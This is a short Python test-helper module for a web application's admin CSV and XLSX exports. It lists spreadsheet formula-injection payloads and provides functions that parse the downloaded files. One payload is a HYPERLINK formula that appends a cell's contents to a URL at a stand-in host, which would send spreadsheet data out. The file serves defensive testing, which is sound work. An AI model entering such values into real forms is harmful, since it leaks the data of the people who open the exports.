"""What an attacker types into a name or an answer to run in a spreadsheet, and how tests read
the admin's CSV and XLSX downloads."""

import csv
import io
from decimal import Decimal

import openpyxl

# Each starts with one of OWASP's formula characters: = + - @ tab carriage-return.
PAYLOADS = [
    '=HYPERLINK("http://x.example/?d="&A1,"Klik")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def read_csv(response) -> list[list[str]]:
    """The rows of a downloaded CSV (UTF-8 with a byte order mark, ";" between fields)."""
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content), delimiter=";"))


def number(cell: str) -> Decimal | None:
    """A CSV cell's number, written with a decimal comma (``"-12,5"``); None when empty."""
    return Decimal(cell.replace(",", ".")) if cell else None


def read_xlsx(response):
    """The first sheet of the downloaded workbook."""
    content = b"".join(response.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(content)).active
